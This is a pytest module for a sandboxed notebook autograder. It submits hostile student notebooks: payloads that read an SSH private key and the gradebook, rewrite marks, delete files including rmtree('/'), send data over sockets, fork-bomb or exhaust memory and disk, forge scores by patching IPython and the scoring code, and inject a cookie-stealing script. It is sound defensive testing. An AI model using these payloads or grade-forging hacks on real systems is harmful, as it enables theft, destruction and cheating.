"""Fifty-seven hostile and damaged submissions of A1 among twenty good ones.

Every good one gets exactly its marks, every other one is contained and given a line, nothing outside is read, written
or sent, nothing stays behind, and the run ends.
"""

import copy
import json
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell
from test_a1_marks import CELLS, hidden, recorded, saved_words, scoring, students

from notknowing.marking.sealed import seal
from notknowing.marking.sealed.limits import Limits
from notknowing.marking.sealed.rounds import mark_sealed

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(1500),
    pytest.mark.skipif(sys.platform != "linux" or not shutil.which("bwrap"), reason="needs bubblewrap"),
]
ROOT = Path(__file__).parents[2]
LIMITS = Limits(cell_seconds=12, notebook_seconds=40, cpu_seconds=40)

# ------------------------------------------------------------------------------------- what is handed in

CODE = {
    "reads-key": "print(open('{home}/.ssh/id_rsa').read())",
    "reads-gradebook": "print(open('{root}/gradebook.db', 'rb').read())",
    "writes-marks": "import sqlite3; c = sqlite3.connect('{root}/gradebook.db'); c.execute('update grade set manual_score=99'); c.commit()",
    "reads-solutions": "print(open('{root}/solutions/a1/a1.ipynb').read())",
    "reads-others": "import os; print(os.listdir('{root}/submitted'))",
    "deletes-others": "import shutil; shutil.rmtree('{root}/submitted')",
    "deletes-all": "import shutil; shutil.rmtree('/', ignore_errors=True)",
    "writes-outside": "open('{root}/i-was-here', 'w').write('x')",
    "sends-out": "import socket; socket.create_connection(('127.0.0.1', {port}), 3).sendall(b'secret')",
    "sends-datagram": "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', {port}))",
    "listens": "import socket; s = socket.create_server(('0.0.0.0', 8080)); print('listening')",
    "docker": "import socket; s = socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock')",
    "fork-bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "orphans": "import subprocess\nfor _ in range(30): subprocess.Popen(['sleep', '987654'], start_new_session=True)",
    "memory": "x = bytearray(10 * 2**30)",
    "memory-slowly": "x = []\nwhile True: x.append('x' * 10_000_000)",
    "fills-disk": "for n in range(10_000): open(f'f{n}', 'wb').write(b'x' * 2**20)",
    "large-file": "open('f', 'wb').write(b'x' * 2**30)",
    "endless": "while True: pass",
    "stubborn": "import signal; signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
    "sleeps": "import time; time.sleep(10_000)",
    "exits": "import os; os._exit(1)",
    "aborts": "import os; os.abort()",
    "segfault": "import ctypes; ctypes.string_at(0)",
    "sys-exit": "import sys; sys.exit()",
    "exit": "exit()",
    "kills": "import os, signal; os.kill(os.getpid(), signal.SIGKILL); os.kill(-1, signal.SIGKILL)",
    "input": "name = input('Who are you? ')",
    "prints-lines": "for _ in range(200_000): print('x' * 500)",
    "prints-one-line": "print('x' * 100_000_000)",
    "displays": "from IPython.display import HTML, display\nfor _ in range(40): display(HTML('x' * 4_000_000))",
    "deep": "import sys; sys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
    "threads": "import threading, time\nfor _ in range(1000): threading.Thread(target=time.sleep, args=(100,)).start()",
    "shadow": "open('pandas.py', 'w').write('raise SystemExit')\nimport pandas",
    "namespaces": "import ctypes; print(ctypes.CDLL(None).unshare(0x10000000))",
}
FORGED = {
    "forged-transformer": "import ast\nclass E(ast.NodeTransformer):\n    def visit_Module(self, n): n.body = [ast.parse('20').body[0]]; return n\nget_ipython().ast_transformers.append(E())",
    "forged-assert": "import ast\nclass E(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.copy_location(ast.Pass(), n)\nget_ipython().ast_transformers.append(E())",
    "forged-formatter": "for k in (int, float): get_ipython().display_formatter.formatters['text/plain'].for_type(k, lambda f, p, c: p.text('3.0'))",
    "forged-hook": "d = type(get_ipython().displayhook); old = d.__call__\nd.__call__ = lambda self, r=None: old(self, 3.0 if r is not None else None)",
    "forged-silence": "get_ipython().ast_node_interactivity = 'none'",
    "forged-run-code": "async def nothing(*a, **k): return False\nget_ipython().run_code = nothing",
    "forged-scoring": "from notknowing.marking import scoring\nfor n in [n for n in dir(scoring) if n.endswith('_points')]: setattr(scoring, n, lambda *a, **k: scoring.Points(3.0, []))",
}


def before_the_tests(notebook, source):
    place = next(
        i for i, cell in enumerate(notebook.cells) if cell.metadata.get("nbgrader", {}).get("grade_id") == CELLS[0]
    )
    notebook.cells.insert(place, new_code_cell(source))


def cell_of(notebook, name=CELLS[0]):
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name)


def copied(notebook):
    notebook.cells.append(copy.deepcopy(cell_of(notebook)))


def deleted(notebook):
    notebook.cells = [cell for cell in notebook.cells if not cell.metadata.get("nbgrader")]


def more_points(notebook):
    cell_of(notebook).metadata.nbgrader.points = 500


def emptied(notebook):
    cell_of(notebook).metadata.nbgrader.locked = False
    cell_of(notebook).source = "10"


def stripped(notebook):
    for cell in notebook.cells:
        cell.metadata = {}
    notebook.metadata = {}


def old_schema(notebook):
    del cell_of(notebook).metadata.nbgrader["schema_version"]


def new_schema(notebook):
    cell_of(notebook).metadata.nbgrader["schema_version"] = 99


def wrong_kernel(notebook):
    notebook.metadata.kernelspec = {"name": "ir", "display_name": "R", "language": "R"}


def script(notebook):
    notebook.cells.insert(1, new_markdown_cell("<script>fetch('http://127.0.0.1/' + document.cookie)</script>"))


DAMAGED = {
    "copied": copied, "deleted": deleted, "more-points": more_points, "emptied": emptied, "stripped": stripped,
    "old-schema": old_schema, "new-schema": new_schema, "wrong-kernel": wrong_kernel, "script": script,
}  # fmt: skip
BROKEN = {
    "truncated": lambda data: data[:700],
    "nothing": lambda data: b"",
    "not-json": lambda data: b"\x89PNG\r\n\x1a\n" + bytes(300),
    "bom": lambda data: b"\xef\xbb\xbf" + data,
    "utf-16": lambda data: data.decode().encode("utf-16"),
}
UNREADABLE = {"truncated", "nothing", "not-json"}


@pytest.fixture(scope="module")
def key():
    found = {"scoring": scoring}
    exec(hidden("a1-coding").split("result =")[0], found)
    return found["KEY"]


class Door(threading.Thread):
    """Something that listens on this computer and remembers whether anybody came."""

    def __init__(self):
        super().__init__(daemon=True)
        import socket

        self.socket, self.came = socket.create_server(("127.0.0.1", 0)), []
        self.port = self.socket.getsockname()[1]

    def run(self):
        while True:
            try:
                self.came.append(self.socket.accept())
            except OSError:
                return


@pytest.fixture(scope="module")
def marked(tmp_path_factory, key):
    root = tmp_path_factory.mktemp("hostile") / "marking"
    for name in ("solutions", "exercises"):
        shutil.copytree(ROOT / name / "a1", root / name / "a1")
    shutil.copy(ROOT / "nbgrader_config.py", root)
    home = tmp_path_factory.mktemp("home")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("THE PRIVATE KEY")
    door = Door()
    door.start()
    released = nbformat.read(root / "exercises" / "a1" / "a1.ipynb", as_version=4)
    kinds = students(key)
    full = saved_words(kinds["full"][0])

    def hand_in(student, notebook=None, data=None, words=full):
        folder = root / "submitted" / student / "a1"
        folder.mkdir(parents=True)
        (folder / "a1.ipynb").write_bytes(data if data is not None else json.dumps(notebook).encode())
        if words is not None:
            (folder / "a1.responses.json").write_text(words, "utf-8")
        return folder

    good = {}
    for number in range(20):
        kind = list(kinds)[number % len(kinds)]
        entries, marks = kinds[kind]
        good[f"good-{number:02d}"] = marks
        hand_in(f"good-{number:02d}", released, words=None if entries is None else saved_words(entries))
    for name, source in {**CODE, **FORGED}.items():
        notebook = copy.deepcopy(released)
        for word, value in (("{home}", home), ("{root}", root), ("{port}", door.port)):
            source = source.replace(word, str(value))
        before_the_tests(notebook, source)
        hand_in(name, notebook, words=saved_words(kinds["half"][0]) if name in FORGED else full)
    for name, change in DAMAGED.items():
        notebook = copy.deepcopy(released)
        change(notebook)
        hand_in(name, notebook)
    for name, change in BROKEN.items():
        hand_in(name, data=change(nbformat.writes(released).encode()), words=None if name in UNREADABLE else full)
    linked = hand_in("link", released)
    (linked / "a1.responses.json").unlink()
    (linked / "a1.responses.json").symlink_to(home / ".ssh" / "id_rsa")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(home))
        report = mark_sealed("a1", root, limits=LIMITS)
    door.socket.close()
    return root, {row.student: row for row in report.rows}, report, good, door


def test_everybody_has_a_row_and_nothing_failed(marked):
    _, rows, report, good, _ = marked
    assert len(CODE) + len(FORGED) + len(DAMAGED) + len(BROKEN) + 1 == 57
    assert len(rows) == len(report.rows) == len(good) + len(CODE) + len(FORGED) + len(DAMAGED) + len(BROKEN) + 1
    assert [row.student for row in report.rows if row.status == "failed"] == []
    assert {row.student for row in report.rows if row.status == "set aside"} == UNREADABLE
    assert report.seal.startswith("Sealed")


def test_every_good_one_gets_exactly_its_marks_and_asks_for_nobody(marked):
    root, rows, _, good, _ = marked
    assert {student: recorded(root, student) for student in good} == good
    assert [student for student in good if rows[student].person] == []


def test_every_other_one_is_given_a_line(marked):
    _, rows, _, good, _ = marked
    silent = [student for student, row in rows.items() if student not in good and not (row.person or row.remarks)]
    assert silent == []
    lines = [line for row in rows.values() for line in row.person + row.remarks]
    assert all("Traceback" not in line and "Error" not in line and len(line.split()) < 60 for line in lines)


STAYS = {"fork-bomb", "memory-slowly", "stubborn", "exits", "aborts", "segfault", "exit", "displays", "kills", "threads", "deep"}  # fmt: skip
"""May end their own page; what then comes after counts 0 and a person is asked."""


def test_code_that_reaches_out_earns_what_its_words_earn_and_no_more(marked):
    root, rows, _, _, _ = marked
    full = recorded(root, "good-00")
    for name in set(CODE) - {"deletes-all"}:  # its own words were among what it could delete, in its own copy of them
        got = recorded(root, name)
        if got != full:
            assert name in STAYS, name
            assert rows[name].person, name
            assert all(mark == 0 or mark == best for mark, best in zip(got, full, strict=True)), name


def test_damage_costs_nothing(marked):
    root, _, _, _, _ = marked
    full = recorded(root, "good-00")
    for name in [*DAMAGED, *(set(BROKEN) - UNREADABLE)]:
        assert recorded(root, name) == full, name


@pytest.mark.parametrize("name", FORGED)
def test_forged_marks_are_held_back_until_a_person_decides(marked, name):
    root, rows, _, _, _ = marked
    assert any("held back until you decide" in line for line in rows[name].person)
    assert None in recorded(root, name)


def test_a_decision_is_one_line_and_stays(marked):
    from notknowing.marking.sealed.decisions import decide

    root = marked[0]
    said = decide("a1", root, "forged-silence", give=False, why="Set on purpose; talked with the student.")
    assert "refused" in said and "talked with the student" in said
    assert None not in recorded(root, "forged-silence") and sum(recorded(root, "forged-silence")) == 0


def test_nothing_was_read_written_or_sent_that_should_not_be(marked):
    root, rows, _, _, door = marked
    assert door.came == []
    assert not (root / "i-was-here").exists() and len(list((root / "submitted").iterdir())) == len(rows)
    secret = [path for path in root.rglob("*") if path.is_file() and b"THE PRIVATE KEY" in path.read_bytes()]
    assert secret == []
    for student in ("reads-solutions", "reads-gradebook"):
        outputs = [
            cell.get("outputs")
            for cell in json.loads((root / "autograded" / student / "a1" / "a1.ipynb").read_text())["cells"]
        ]
        assert "TurnKey(" not in json.dumps(outputs) and "SQLite format" not in json.dumps(outputs)


def test_nothing_stays_behind(marked):
    root = marked[0]
    listing = subprocess.run(["ps", "-eo", "args="], capture_output=True, text=True).stdout
    assert "987654" not in listing
    assert not (root / ".marking").exists()
    mine = [
        path
        for path in Path(seal.tempfile.gettempdir()).glob(f"{seal.PREFIX}*/owner")
        if path.read_text() == str(os.getpid())
    ]
    assert mine == []


def test_what_is_kept_is_small(marked):
    sizes = {path.parent.parent.name: path.stat().st_size for path in (marked[0] / "autograded").rglob("a1.ipynb")}
    assert max(sizes.values()) < 2 * 2**20, sizes
